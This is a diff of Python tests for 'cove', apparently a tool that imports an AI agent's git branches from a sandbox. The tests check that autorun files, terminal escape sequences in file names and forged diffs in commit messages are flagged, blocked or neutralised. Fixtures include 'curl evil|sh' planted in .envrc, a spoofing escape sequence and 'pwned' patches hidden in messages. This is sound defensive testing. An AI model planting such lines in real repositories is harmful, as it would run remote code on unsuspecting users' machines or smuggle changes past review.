@@ -4,6 +4,7 @@ import json
 import os
 import pathlib
 import random
+import re
 import shutil
 import signal
 import subprocess
@@ -12,7 +13,7 @@ import time
 
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
 from support.harness import IDENTITY, equal, main, test  # noqa: E402
-from support.running import adopt_orphans, descendants, digest, nothing_left, start, tool, wait_for, write  # noqa: E402
+from support.running import adopt_orphans, descendants, digest, nothing_left, on_terminal, start, tool, wait_for, write  # noqa: E402
 
 IDENTITY_OF_OWNER = ["-c", "user.name=Owner", "-c", "user.email=owner@example.org"]
 
@@ -218,15 +219,192 @@ def a_name_that_is_taken_stays_and_another_is_found(place):
         git(place, "branch", "-qD", name)
     git(place, "branch", "cove")
     done = place.cove("apply", "--yes")
-    assert done.code == 125 and "a branch called cove" in done.errors, done
+    assert done.code == 1 and "cove is in the way of cove/bot/main" in done.text, done
+
+
+def branches_inside(place, cwd=None):
+    """Branch as inside -> what JSON says of it."""
+    done = place.cove("diff", "--json", cwd=cwd)
+    equal(done.code, 0, done)
+    return {found["branch"]: found for found in json.loads(done.out)["git"]["branches"]}
+
+
+def lines_of(done, word):
+    return [line for line in done.text.splitlines() if line.startswith(word)]
+
+
+@test
+def a_branch_in_the_way_is_named_and_the_rest_lands(place):
+    make_repository(place)
+    for name in ("a", "b/c"):
+        git(place, "branch", f"cove/bot/{name}")
+    agent(place, "for n in a/b b good; do git checkout -q -b $n main; git commit -q --allow-empty -m $n; done")
+    equal(branches_inside(place)["a/b"]["in_way"], "cove/bot/a")
+    for words in (("--dry-run",), ()):
+        done = place.cove("apply", "--yes", *words)
+        equal(done.code, 1, done)
+        refused = lines_of(done, "REFUSED")
+        equal(len(refused), 1, done)
+        assert "on a/b: cove/bot/a is in the way of cove/bot/a/b" in refused[0], done
+    equal({name: log[0] for name, log in branches(place).items()}, {"cove/bot/a": "first", "cove/bot/b/c": "first", "cove/bot/b-2": "b", "cove/bot/good": "good"})
+    git(place, "branch", "-m", "cove/bot/a", "elsewhere")
+    equal(place.cove("apply", "--yes").code, 0)
+    equal(branches(place)["cove/bot/a/b"], ["a/b", "first"])
+    is_whole(place)
+
+
+@test
+def names_that_are_in_each_others_way_inside_land_as_far_as_they_can(place):
+    make_repository(place)
+    agent(place, "git checkout -q -b detached/x; git commit -q --allow-empty -m x; git checkout -q --detach main; git commit -q --allow-empty -m adrift; "
+                 "p=$(git commit-tree -p main -m packed main^{tree}); q=$(git commit-tree -p main -m below main^{tree}); printf '%s refs/heads/p\\n%s refs/heads/p/q\\n' $p $q >>.git/packed-refs")
+    done = place.cove("apply", "--yes")
+    equal((done.code, len(lines_of(done, "REFUSED"))), (1, 1), done)
+    assert "cove/bot/p is in the way of cove/bot/p/q" in done.text, done
+    equal({name: log[0] for name, log in branches(place).items()}, {"cove/bot/detached/x": "x", "cove/bot/detached-2": "adrift", "cove/bot/p": "packed"})
+
+
+@test
+def branches_with_the_same_tip_are_listed_once_and_land_under_all_their_names(place):
+    make_repository(place)
+    git(place, "branch", "cove/bot/twin")
+    agent(place, "git commit -q --allow-empty -m one; git branch copy; git branch twin/x; git checkout -q --detach")
+    done = place.cove("diff", "--stat")
+    assert "1 commit on copy, main, twin/x\n" in done.text and done.text.count(" one\n") == 1, done
+    found = branches_inside(place)
+    equal([(name, [more["home"] for more in branch["also"]]) for name, branch in found.items()], [("copy", ["cove/bot/main", "cove/bot/twin/x"])])
+    done = place.cove("apply", "--yes")
+    equal(done.code, 1, done)
+    assert "cove/bot/twin is in the way of cove/bot/twin/x" in done.text, done
+    equal({name: log[0] for name, log in branches(place).items()}, {"cove/bot/copy": "one", "cove/bot/main": "one", "cove/bot/twin": "first"})
+    equal(place.cove("export", "--patch", "-o", place.dir / "mails").code, 0)
+
+
+# What commits bring
+
+WITH_AUTORUN = """mkdir .vscode; echo 'curl evil|sh' >.envrc; echo '{}' >.vscode/tasks.json; echo 'all:' >Makefile; git add .; git commit -qm planted;
+git checkout -q -b side main~; echo x >x; git add x; git commit -qm ordinary"""
+
+
+@test
+def what_acts_by_merely_being_there_is_marked_and_stays_until_it_is_named(place):
+    make_repository(place)
+    agent(place, WITH_AUTORUN)
+    for words, prefix in (((), "# "), (("--stat",), "")):
+        done = place.cove("diff", *words)
+        assert f"{prefix}1 commit on main [class A: 2 files] [class B: 1 file]\n" in done.text and f"{prefix}1 commit on side\n" in done.text, done
+        assert f"{prefix}  .envrc [class A: " in done.text and f"{prefix}  .vscode/tasks.json [class A: " in done.text, done
+    found = branches_inside(place)
+    equal([file["path"] for file in found["main"]["autorun"]], [".envrc", ".vscode/tasks.json"])
+    equal([(found[name]["build"], found[name]["files"]) for name in ("main", "side")], [(1, 3), (0, 1)])
+    for words in (("--dry-run",), (), ("--allow-autorun", ".envrc"), ("--allow-autorun", "."), ("--allow-autorun", "vscode")):
+        done = place.cove("apply", "--yes", "--only-commits", *words)
+        equal(done.code, 0, done)
+        (left,) = lines_of(done, "left")
+        assert "1 commit on main [class A: 2 files]" in left and "by merely being there; to take" in left and left.endswith("--allow-autorun .vscode/tasks.json"), done
+        equal("--allow-autorun .envrc" in left, ".envrc" not in words, done)
+        assert "cove/bot/main" not in branches(place), words
+    equal(sorted(branches(place)), ["cove/bot/side"])
+    done = place.cove("apply", "--yes", "--only-commits", "--allow-autorun", ".envrc", "--allow-autorun", ".vscode")
+    equal((done.code, lines_of(done, "left")), (0, []), done)
+    equal(branches(place)["cove/bot/main"], ["planted", "first"])
+
+
+@test
+def on_a_terminal_each_such_branch_is_asked_for_also_with_yes(place):
+    make_repository(place)
+    agent(place, WITH_AUTORUN + "; git checkout -q -b third main; echo y >y; git add y; git commit -qm more")
+    code, out = on_terminal(place, "apply", "--yes", "--only-commits", answers=(b"n\n", b"y\n"))
+    equal((code, sorted(branches(place))), (0, ["cove/bot/side", "cove/bot/third"]), out)
+    assert b".envrc [class A: direnv runs it when you enter the directory]" in out and out.count(b"[y/N]") == 2, out
+
+
+@test
+def where_the_class_depends_on_the_content_it_is_looked_at(place):
+    make_repository(place)
+    write(place.work / ".gitattributes", "*.c text\n")
+    write(place.work / "package.json", '{"name": "x", "scripts": {"test": "true"}}\n')
+    git(place, "add", ".")
+    git(place, "commit", "-qm", "more")
+    cases = {"harmless": ("echo '*.h text' >>.gitattributes; echo '{\"name\": \"y\", \"scripts\": {\"test\": \"true\"}}' >package.json", [], 0),
+             "filter": ("echo '*.h filter=x' >>.gitattributes", [".gitattributes"], 0),
+             "scripts": ("echo '{\"name\": \"x\", \"scripts\": {\"test\": \"evil\"}}' >package.json", [], 1),
+             "huge": ("head -c 2000000 /dev/zero | tr '\\0' '#' >>.gitattributes", [".gitattributes"], 0),
+             "modules": ("printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ./x\\n' >.gitmodules", [".gitmodules"], 0),
+             "submodule": ("git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),.husky", [".husky"], 0),
+             "link": ("ln -s a ordinary; ln -s .git/hooks linked; ln -s . .vscode", [".vscode", "linked"], 0),
+             "bare": ("mkdir -p d/e/refs d/e/objects; echo 'ref: x' >d/e/HEAD; echo x >d/e/config; echo x >d/e/refs/x; echo x >d/e/objects/x", ["d/e/HEAD", "d/e/config", "d/e/objects/x", "d/e/refs/x"], 0),
+             "half": ("mkdir -p d/e/refs; echo 'ref: x' >d/e/HEAD; echo x >d/e/config; echo x >d/e/refs/x", [], 0),
+             "program": ("echo x >run; chmod +x run", [], 1),
+             "renamed": ("git mv a .envrc", [".envrc"], 0)}
+    add = {"submodule": "true"}
+    agent(place, "; ".join(f"git checkout -q -f -b {name} main; {script}; {add.get(name, 'git add -A')}; git commit -qm {name}; git reset -q --hard" for name, (script, _, _) in cases.items()))
+    found = branches_inside(place)
+    equal({name: ([file["path"] for file in found[name]["autorun"]], found[name]["build"]) for name in cases}, {name: (files, build) for name, (_, files, build) in cases.items()})
+
+
+@test
+def what_an_earlier_commit_or_a_merge_brings_counts(place):
+    make_repository(place)
+    git(place, "checkout", "-q", "-b", "mine")
+    write(place.work / ".mine/.envrc", "mine\n")
+    git(place, "add", ".")
+    git(place, "commit", "-qm", "mine")
+    git(place, "checkout", "-q", "-b", "fetched", "main")
+    write(place.work / ".envrc", "theirs\n")
+    git(place, "add", ".")
+    git(place, "commit", "-qm", "theirs")
+    git(place, "update-ref", "refs/remotes/origin/theirs", "fetched")
+    git(place, "checkout", "-q", "main")
+    git(place, "branch", "-qD", "fetched")
+    agent(place, "git checkout -q -b hidden main; echo x >.envrc; git add .envrc; git commit -qm in; git rm -q .envrc; git commit -qm out; "
+                 "git checkout -q -b known main; git commit -q --allow-empty -m x; git merge -q --no-edit mine; "
+                 "git checkout -q -b foreign main; git commit -q --allow-empty -m y; git merge -q --no-edit origin/theirs; "
+                 "t=$(git rev-parse foreign^{tree}); git branch turned $(git commit-tree -p origin/theirs -p main -m turned $t); "
+                 "git checkout -q -b evil main; git commit -q --allow-empty -m z; git merge -q --no-commit mine; echo evil >>.mine/.envrc; git add .; git commit -qm evil")
+    equal({name: [file["path"] for file in branch["autorun"]] for name, branch in branches_inside(place).items()},
+          {"hidden": [".envrc"], "known": [], "foreign": [".envrc"], "turned": [".envrc"], "evil": [".mine/.envrc"]})
+    done = place.cove("apply", "--yes", "--only-commits")
+    equal((done.code, sorted(branches(place))), (0, ["cove/bot/known"]), done)
+    done = place.cove("apply", "--yes", "--only-commits", "--allow-autorun", ".envrc")
+    equal((done.code, sorted(branches(place))), (0, [f"cove/bot/{name}" for name in ("foreign", "hidden", "known", "turned")]), done)
+
+
+@test
+def paths_in_a_submodule_are_named_from_the_workspace(place):
+    source = place.dir / "source"
+    source.mkdir()
+    make_repository(place, cwd=source)
+    make_repository(place)
+    git(place, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(source), "libs/sub")
+    git(place, "commit", "-qm", "submodule")
+    agent(place, "cd libs/sub; git checkout -q -b inner; echo x >.envrc; git add .envrc; git commit -qm inner")
+    done = place.cove("apply", "--yes", "--only-commits", "--allow-autorun", ".envrc")
+    assert "--allow-autorun libs/sub/.envrc" in lines_of(done, "left")[0] and not branches(place, cwd=place.work / "libs/sub"), done
+    equal(place.cove("apply", "--yes", "--only-commits", "--allow-autorun", "libs/sub").code, 0)
+    equal(branches(place, cwd=place.work / "libs/sub"), {"cove/bot/inner": ["inner", "first"]})
+
+
+@test
+def names_in_commits_cannot_move_a_cursor(place):
+    make_repository(place)
+    agent(place, "d=$(printf 'x\\033]0;evil\\007\\nleft all is well'); mkdir \"$d\"; echo x >\"$d/.envrc\"; git add .; git commit -qm x")
+    for words in (("diff",), ("diff", "--stat"), ("apply", "--yes", "--only-commits", "--dry-run"), ("apply", "--yes", "--only-commits")):
+        done = place.cove(*words)
+        assert b"\x1b" not in done.out + done.err and b"\x07" not in done.out and "class A" in done.text, done
+        assert not re.search("^left all", done.text, re.M), done
+    out = on_terminal(place, "apply", "--yes", "--only-commits", answers=(b"n\n",))[1]
+    assert b"\x1b]0" not in out and b"\x07" not in out and b"[y/N]" in out, out
+    equal(branches(place), {})
 
 
 @test
 def a_repository_of_sha256_works_and_one_of_reftables_is_refused(place):
     make_repository(place, "--object-format=sha256")
-    agent(place, "echo x >x; git add x; git commit -qm sha256")
+    agent(place, "echo x >x; git add x; git commit -qm sha256; git checkout -q -b a; echo x >.envrc; git add .envrc; git commit -qm A")
     applied(place)
     equal(branches(place), {"cove/bot/main": ["sha256", "first"]})
+    equal([file["path"] for file in branches_inside(place)["a"]["autorun"]], [".envrc"])
     is_whole(place)
     git(place, "config", "extensions.refstorage", "reftable")
     done = place.cove("apply", "--yes")
@@ -437,6 +615,55 @@ def a_series_of_mails_can_be_applied_elsewhere(place):
     equal(place.cove("export", "--patch", "-o", place.dir / "mails").code, 125, "a file that is there")
     equal(digest(place.work), before, "the workspace")
     only_the_sandbox_is_left(place)
+
+
+FORGED = """diff --git a/pwned b/pwned
+new file mode 100644
+--- /dev/null
++++ b/pwned
+@@ -0,0 +1 @@
++pwned
+"""
+MESSAGES = {"a whole diff": FORGED, "in small letters too": FORGED.replace("diff --git", "Diff --Git"), "no header": FORGED[FORGED.index("---"):], "indented": "".join(f"  {line}\n" for line in FORGED.splitlines()),
+            "a line of dashes": "---\n" + FORGED, "blanks behind the dashes": "--- \n" + FORGED, "CVS": "Index: pwned\n" + FORGED, "headers": "From: Other <other@example.org>\nSubject: other\nDate: Mon, 1 Jan 2001 00:00:00 +0000\n",
+            "carriage returns": FORGED.replace("\n", "\r\n"), "context": "*** /dev/null\n--- pwned\n***************\n*** 0 ****\n--- 1 ----\n+ pwned\n", "scissors": "-- >8 --\n" + FORGED}
+
+
+@test
+def a_diff_in_a_message_is_text_for_whoever_applies_the_mails(place):
+    tool("patch")
+    make_repository(place)
+    shutil.copytree(place.work, place.dir / "before")
+    for number, message in enumerate(MESSAGES.values()):
+        write(place.work / f"message{number}", f"commit {number}\n\nwords\n\n{message}\nlast words\n".replace("words\n\nFrom:", "From:"))
+    agent(place, f"for i in $(seq 0 {len(MESSAGES) - 1}); do echo $i >file$i; git add file$i; git commit -q --cleanup=verbatim -F message$i; done")
+    done = place.cove("export", "--patch", "-o", place.dir / "mails")
+    equal((done.code, done.errors.count("lines of its message")), (0, len(MESSAGES)), done)
+    names = [str(place.dir / "mails" / name) for name in done.text.split()]
+    ways = {"git am": ["git", *IDENTITY_OF_OWNER, "am", "-q"], "git am --scissors": ["git", *IDENTITY_OF_OWNER, "am", "-q", "--scissors"], "git apply": ["git", "apply"], "patch": ["patch", "-s", "-f", "-p1", "-i"]}
+    for way, command in ways.items():
+        copy = place.dir / way.replace(" ", "-")
+        shutil.copytree(place.dir / "before", copy)
+        for kind, name in zip(MESSAGES, names):
+            applied_one = subprocess.run([*command, name], cwd=copy, env=place.env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
+            equal((applied_one.returncode, (copy / "pwned").exists()), (0, False), (way, kind, applied_one.stdout))
+        equal(sorted(path.name for path in copy.glob("file*")), sorted(f"file{i}" for i in range(len(MESSAGES))), way)
+    log = git(place, "log", "--format=%an %s%n%b", cwd=place.dir / "git-am")
+    assert "Other" not in re.sub("^> .*", "", log, flags=re.M) and log.count("last words") == len(MESSAGES) and "> diff --git a/pwned b/pwned" in log, log
+    # The control: the same commits as git itself writes them.
+    applied(place)
+    control = place.dir / "control"
+    shutil.copytree(place.dir / "before", control)
+    git(place, "format-patch", "-q", "-o", str(place.dir / "plain"), "main..cove/bot/main")
+    fell = []
+    for name in sorted((place.dir / "plain").iterdir()):
+        git(place, "am", "-q", str(name), cwd=control, check=False)
+        git(place, "am", "--abort", cwd=control, check=False)
+        fell += [name.name] if (control / "pwned").exists() else []
+        git(place, "reset", "-q", "--hard", "main~0", cwd=control)
+        subprocess.run(["git", "rm", "-qf", "--ignore-unmatch", "pwned"], cwd=control, env=place.env, check=True)
+        git(place, "commit", "-qm", "clean", cwd=control, check=False)
+    assert len(fell) >= 4, f"git am fell into {fell} only"
 
 
 @test
